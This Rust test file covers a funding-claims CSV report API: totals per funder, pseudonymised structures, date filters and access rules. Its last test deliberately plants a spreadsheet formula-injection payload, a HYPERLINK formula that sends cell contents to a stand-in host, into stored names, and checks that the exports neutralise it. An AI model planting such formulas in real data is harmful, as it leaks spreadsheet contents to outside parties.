use std::collections::{BTreeMap, BTreeSet};

use http::StatusCode;
use serde_json::{Value, json};
use sqlx::PgPool;
use standards::Cents;

use crate::bank::{naming, returning};
use crate::cycle::{HELD, PAID, march};
use crate::fixture::{FUNDERS, Fixture, OTHER_IBAN, PROGRAMME, STRUCTURE_IBAN, id, instant};

type Line = BTreeMap<String, String>;

fn lines(csv: &[u8]) -> Vec<Line> {
    csv::Reader::from_reader(csv)
        .deserialize()
        .map(Result::unwrap)
        .collect()
}

async fn report(fixture: &Fixture, query: &str) -> Vec<Line> {
    lines(&fixture.get(&format!("/funding/v1/reports/claims{query}")).await)
}

fn sum<'l>(lines: impl Iterator<Item = &'l Line>, column: &str) -> Cents {
    Cents::try_sum(lines.map(|line| line[column].parse().unwrap())).unwrap()
}

/// Of each funder: what is claimed and what is paid, by the lines and by the waterfall.
async fn sums_agree(fixture: &Fixture) -> Vec<(Cents, Cents)> {
    let all = report(fixture, "").await;
    let waterfall = fixture.get_json("/funding/v1/waterfall").await;
    let mut sums = Vec::new();
    for funder in FUNDERS {
        let mine: Vec<Line> = report(fixture, &format!("?funder_id={funder}")).await;
        let kept: Vec<&Line> = all
            .iter()
            .filter(|line| line["funder_id"] == funder.to_string())
            .collect();
        assert!(
            mine.iter().eq(kept.iter().copied()),
            "one funder's lines are those of all"
        );
        let standing = mine.iter().filter(|line| line["reversed_on"].is_empty());
        let by_lines = (sum(standing, "share"), sum(mine.iter(), "paid"));
        let totals = waterfall["totals"].as_array().unwrap();
        let total = totals.iter().find(|row| row["funder_id"] == json!(funder)).unwrap();
        let amount = |column: &str| total[column].as_str().unwrap().parse::<Cents>().unwrap();
        assert_eq!(by_lines, (amount("claimed"), amount("paid")), "{mine:?}");
        sums.push(by_lines);
    }
    sums
}

fn cents(amounts: [(i64, i64); 2]) -> Vec<(Cents, Cents)> {
    amounts
        .map(|(claimed, paid)| (Cents::new(claimed), Cents::new(paid)))
        .to_vec()
}

/// Paid, returned, paid elsewhere, reversed, deducted, expired: the lines follow the waterfall to the cent, funder by funder.
#[testkit::test]
async fn lines_sum_to_the_waterfall_whatever_happens(admin: PgPool) {
    let fixture = march(admin).await;
    assert_eq!(sums_agree(&fixture).await, cents([(1336, 0), (2664, 0)]));
    let first = fixture.settle(1, "2026-03", "2026-04-03").await;
    sums_agree(&fixture).await;
    let sent = report(&fixture, &format!("?funder_id={}", FUNDERS[0])).await;
    assert_eq!(
        sent.iter()
            .map(|line| line["payment_state"].as_str())
            .collect::<Vec<_>>(),
        ["", "sent", ""]
    );

    let end_to_end = &first["payments"][0]["end_to_end"];
    fixture
        .loads(
            2,
            "200.00",
            vec![naming("-20.00", end_to_end), returning("20.00", end_to_end)],
        )
        .await;
    assert_eq!(sums_agree(&fixture).await, cents([(1336, 0), (2664, 0)]));
    let returned = report(&fixture, &format!("?funder_id={}", FUNDERS[0])).await;
    assert!(returned.iter().all(|line| line["payment_id"].is_empty()));

    fixture
        .has_structure(PAID, Some(OTHER_IBAN), "2026-04-02T00:00:00Z")
        .await;
    let again = fixture.settle(2, "2026-03", "2026-04-03").await;
    fixture
        .loads(3, "200.00", vec![naming("-20.00", &again["payments"][0]["end_to_end"])])
        .await;
    assert_eq!(sums_agree(&fixture).await, cents([(1336, 668), (2664, 1332)]));

    // Undone after it was paid: no longer claimed, still paid, until the next payment takes it back.
    fixture
        .reverses_after_settlement(id(201), PAID, &[1, 2], "2026-04-05T10:00:00Z")
        .await;
    assert_eq!(sums_agree(&fixture).await, cents([(668, 668), (1332, 1332)]));
    fixture.hand.move_to(instant("2026-05-02T08:00:00Z"));
    fixture.claims(id(204), PAID, &[1, 2, 5], "2026-04-06T10:00:00Z").await;
    let april = fixture.settle(3, "2026-04", "2026-05-04").await;
    fixture
        .loads(4, "180.00", vec![naming("-20.00", &april["payments"][0]["end_to_end"])])
        .await;
    let [(a, paid_a), (b, paid_b)] = sums_agree(&fixture).await.try_into().unwrap();
    assert_eq!(Cents::try_sum([a, b]), Some(Cents::new(5000)));
    assert_eq!(Cents::try_sum([paid_a, paid_b]), Some(Cents::new(4000)));

    fixture.hand.move_to(instant("2026-08-10T08:00:00Z"));
    fixture.expires(&[], "2026-08-08T10:00:00Z").await;
    sums_agree(&fixture).await;
    fixture.all_hold().await;
}

#[testkit::test]
async fn a_line_says_what_was_done_where_and_never_who(admin: PgPool) {
    let fixture = march(admin).await;
    sqlx::query("update redemption.structure set commune = 'Dijon', place = '{\"code_insee\": \"21231\"}'")
        .execute(&fixture.admin)
        .await
        .unwrap();
    fixture
        .has_structure(HELD, Some(STRUCTURE_IBAN), "2026-03-02T00:00:00Z")
        .await;
    let bytes = fixture.get("/funding/v1/reports/claims").await;
    let all = lines(&bytes);
    assert_eq!(all.len(), 6, "three claims of two funders");
    let line = &all[0];
    let pseudonym = line["structure"].clone();
    assert_eq!(pseudonym.len(), 32, "{pseudonym}");
    let expected = [
        ("claim_id", id(202).to_string()),
        ("programme_id", PROGRAMME.to_string()),
        ("programme", "Dispositif de Côte-d'Or".to_owned()),
        ("claimed_on", "2026-03-10".to_owned()),
        ("service_date", "2026-03-10".to_owned()),
        ("service", "bureautique".to_owned()),
        ("level", "montee_en_competence".to_owned()),
        ("departement", "21".to_owned()),
        ("commune_code", "21231".to_owned()),
        ("commune", "Dijon".to_owned()),
        ("structure", pseudonym),
        ("vouchers", "1".to_owned()),
        ("face_value", "10.00".to_owned()),
        ("funder_id", FUNDERS[0].to_string()),
        ("funder", "Département".to_owned()),
        ("share", "3.34".to_owned()),
        ("reversed_on", String::new()),
        ("paid", "0.00".to_owned()),
        ("payment_id", String::new()),
        ("payment_state", String::new()),
    ];
    let expected: Line = expected
        .into_iter()
        .map(|(column, value)| (column.to_owned(), value))
        .collect();
    assert_eq!(line, &expected);
    let text = String::from_utf8(bytes).unwrap();
    let (held, paid) = (HELD.to_string(), PAID.to_string());
    for secret in ["Médiathèque", "1111111", "FR14", "Mairie", &held, &paid] {
        assert!(!text.contains(secret), "{secret}");
    }
}

/// A structure's id is made from its SIRET, which everybody can look up: a funder must not be able to try them all.
#[testkit::test]
async fn a_structure_has_a_pseudonym_that_is_one_funders_and_stays(admin: PgPool) {
    let fixture = march(admin).await;
    let named = async |funder: uuid::Uuid| -> BTreeMap<String, String> {
        let lines = report(&fixture, &format!("?funder_id={funder}")).await;
        lines
            .into_iter()
            .map(|mut line| (line.remove("claim_id").unwrap(), line.remove("structure").unwrap()))
            .collect()
    };
    let (one, other) = (named(FUNDERS[0]).await, named(FUNDERS[1]).await);
    assert_eq!(named(FUNDERS[0]).await, one, "the same in every report");
    let claims = |structure: uuid::Uuid| {
        let all = [(id(202), HELD), (id(201), PAID), (id(203), PAID)];
        all.into_iter()
            .filter(move |(_, of)| *of == structure)
            .map(|(claim, _)| claim.to_string())
    };
    for structure in [HELD, PAID] {
        let mine: BTreeSet<&String> = claims(structure).map(|claim| &one[&claim]).collect();
        assert_eq!(mine.len(), 1, "one structure, one pseudonym: {mine:?}");
    }
    let (mine, theirs): (BTreeSet<_>, BTreeSet<_>) = (one.values().collect(), other.values().collect());
    assert_eq!((mine.len(), theirs.len()), (2, 2));
    assert!(mine.is_disjoint(&theirs), "two funders cannot compare");
    // Another installation names them otherwise: nothing public makes a pseudonym.
    sqlx::query("update funding.pseudonym_secret set secret = sha256(secret)")
        .execute(&fixture.admin)
        .await
        .unwrap();
    let elsewhere = named(FUNDERS[0]).await;
    assert!(elsewhere.values().all(|pseudonym| !mine.contains(pseudonym)));
}

/// The last second of March is April in Paris: the same day as in the settlement.
#[testkit::test]
async fn a_period_is_of_paris_days_and_a_programme_is_one(admin: PgPool) {
    let fixture = march(admin).await;
    let claims = async |query: &str| {
        let found = report(&fixture, query).await;
        let mut found: Vec<String> = found.into_iter().map(|line| line["claim_id"].clone()).collect();
        found.dedup();
        found
    };
    let named = |ids: &[u128]| ids.iter().map(|n| id(*n).to_string()).collect::<Vec<_>>();
    assert_eq!(claims("?from=2026-03-01&to=2026-03-31").await, named(&[202, 201]));
    assert_eq!(claims("?from=2026-04-01").await, named(&[203]));
    assert_eq!(claims("?to=2026-03-10").await, named(&[202]));
    assert_eq!(
        claims(&format!("?programme_id={PROGRAMME}")).await,
        named(&[202, 201, 203])
    );
    let nothing = fixture
        .get(&format!("/funding/v1/reports/claims?programme_id={}", id(0x99)))
        .await;
    assert!(nothing.starts_with(b"claim_id,programme_id,") && nothing.ends_with(b",payment_state\n"));
    assert_eq!(
        fixture
            .status("/funding/v1/reports/claims?from=2026-04-01&to=2026-03-01")
            .await,
        400
    );
    assert_eq!(fixture.status("/funding/v1/reports/claims?from=avril").await, 400);
}

#[testkit::test]
async fn a_funder_reads_its_own_shares_and_no_others(admin: PgPool) {
    let fixture = march(admin).await;
    let own = fixture.key_of(FUNDERS[0], None).await;
    let read = async |path: String, key: &str| fixture.send("GET", &path, key, Vec::new()).await;
    let (status, bytes) = read("/funding/v1/reports/claims".to_owned(), &own).await;
    assert_eq!(status, StatusCode::OK);
    let mine = lines(&bytes);
    assert_eq!(mine.len(), 3);
    assert!(mine.iter().all(|line| line["funder_id"] == FUNDERS[0].to_string()));
    let (_, same) = read(format!("/funding/v1/reports/claims?funder_id={}", FUNDERS[0]), &own).await;
    assert_eq!(same, bytes);
    let (status, refused) = read(format!("/funding/v1/reports/claims?funder_id={}", FUNDERS[1]), &own).await;
    assert_eq!(status, StatusCode::FORBIDDEN);
    let refused: Value = serde_json::from_slice(&refused).unwrap();
    assert!(refused["detail"].as_str().unwrap().contains("ses propres parts"));
    let structure = json!({"id": PAID, "name": "Médiathèque", "roles": ["structure"]});
    let structure = fixture.key_of(PAID, Some(structure)).await;
    assert_eq!(
        read("/funding/v1/reports/claims".to_owned(), &structure).await.0,
        StatusCode::FORBIDDEN
    );
    let auditor = json!({"id": id(0x77), "name": "Cour des comptes", "roles": ["auditor"]});
    let auditor = fixture.key_of(id(0x77), Some(auditor)).await;
    assert_eq!(
        lines(&read("/funding/v1/reports/claims".to_owned(), &auditor).await.1).len(),
        6
    );
}

/// Whoever names a programme or a structure writes into other people's spreadsheets.
#[testkit::test]
async fn a_name_is_never_a_formula(admin: PgPool) {
    let fixture = march(admin).await;
    let formula = r#"=HYPERLINK("http://ailleurs.example/"&B2;"détail")"#;
    for update in [
        "update catalogue.programme set name = $1",
        "update redemption.structure set commune = $1, name = $1",
        "update access.organisation set name = $1 where 'funder' = any(roles)",
        "update funding.funder set name = $1",
    ] {
        sqlx::query(update).bind(formula).execute(&fixture.admin).await.unwrap();
    }
    fixture.settle(1, "2026-03", "2026-04-03").await;
    let mut told = 0;
    for file in [
        "/funding/v1/reports/claims",
        "/funding/v1/reports/waterfall?format=csv",
        "/funding/v1/holds?format=csv",
    ] {
        let bytes = fixture.get(file).await;
        for record in csv::Reader::from_reader(&bytes[..]).records() {
            for cell in &record.unwrap() {
                assert!(!cell.starts_with(['=', '+', '@']), "{file}: {cell}");
                assert!(
                    !cell.starts_with('-') || cell.parse::<Cents>().is_ok(),
                    "{file}: {cell}"
                );
                told += usize::from(cell == format!("'{formula}"));
            }
        }
        assert!(told > 0, "{file}");
        told = 0;
    }
}
